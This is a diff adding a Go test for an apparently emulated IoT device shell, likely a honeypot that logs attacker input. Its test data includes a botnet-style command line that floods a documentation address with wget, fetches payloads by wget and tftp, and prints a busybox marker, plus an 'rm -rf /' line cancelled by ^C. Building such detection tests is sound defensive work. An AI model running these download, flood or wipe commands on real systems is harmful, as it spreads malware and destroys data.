@@ -86,3 +86,55 @@ func TestFactsPerDeployment(t *testing.T) {
 		}
 	}
 }
+
+// TestShellAPIStates covers the states a transport must follow: an
+// unfinished line (Continue, "> "), a password prompt (Secret, no prompt
+// of its own), flood targets apart from downloads, URLs of commands that
+// did not run, markers.
+func TestShellAPIStates(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), Limits{})
+	sh := d.NewShell(context.Background())
+	defer sh.Close()
+
+	if r := sh.Run(`echo "a`); !r.Continue || len(r.Output) != 0 || sh.Prompt() != "> " {
+		t.Fatalf("open quote: %+v prompt %q", r, sh.Prompt())
+	}
+	if r := sh.Run(`b"`); r.Continue || string(r.Output) != "a\nb\n" || sh.Prompt() != "~ # " {
+		t.Fatalf("closed quote: %+v prompt %q", r, sh.Prompt())
+	}
+
+	if r := sh.Run("passwd"); string(r.Output) != "Changing password for root\nNew password: " || sh.Prompt() != "" {
+		t.Fatalf("passwd: %q prompt %q", r.Output, sh.Prompt())
+	}
+	if r := sh.Run("pw1"); !r.Secret || string(r.Output) != "\nRetype password: " {
+		t.Fatalf("first answer: %+v", r)
+	}
+	if r := sh.Run("pw1"); !r.Secret || !strings.Contains(string(r.Output), "password for root is unchanged") || sh.Prompt() != "~ # " {
+		t.Fatalf("second answer: %+v", r)
+	}
+
+	r := sh.Run(`cd /tmp; sh -c "while true; do wget -q -O /dev/null http://198.51.100.1/; done" & wget http://192.0.2.1/a || tftp -r b -g 192.0.2.2; /bin/busybox ECCHI`)
+	if len(r.Floods) != 1 || r.Floods[0].URL != "http://198.51.100.1/" || r.Floods[0].Requests < 2 || !r.Floods[0].Ran {
+		t.Errorf("floods %+v", r.Floods)
+	}
+	want := []Download{
+		{URL: "http://192.0.2.1/a", Tool: "wget", Filename: "/tmp/a", Ran: true},
+		{URL: "tftp://192.0.2.2/b", Tool: "tftp", Filename: "/tmp/b", Ran: false},
+	}
+	if len(r.Downloads) != len(want) || r.Downloads[0] != want[0] || r.Downloads[1] != want[1] {
+		t.Errorf("downloads %+v, want %+v", r.Downloads, want)
+	}
+	if len(r.Markers) != 1 || r.Markers[0] != "ECCHI" {
+		t.Errorf("markers %q", r.Markers)
+	}
+	// Up arrow recalls the last line.
+	if l, ok := EditLine("\x1b[A", sh.LastLine()); !ok || l != sh.LastLine() {
+		t.Errorf("up arrow: %q", l)
+	}
+	if l, ok := EditLine("ls -x\x7fa", ""); !ok || l != "ls -a" {
+		t.Errorf("backspace: %q", l)
+	}
+	if _, ok := EditLine("rm -rf /\x03", ""); ok {
+		t.Error("^C ran the line")
+	}
+}
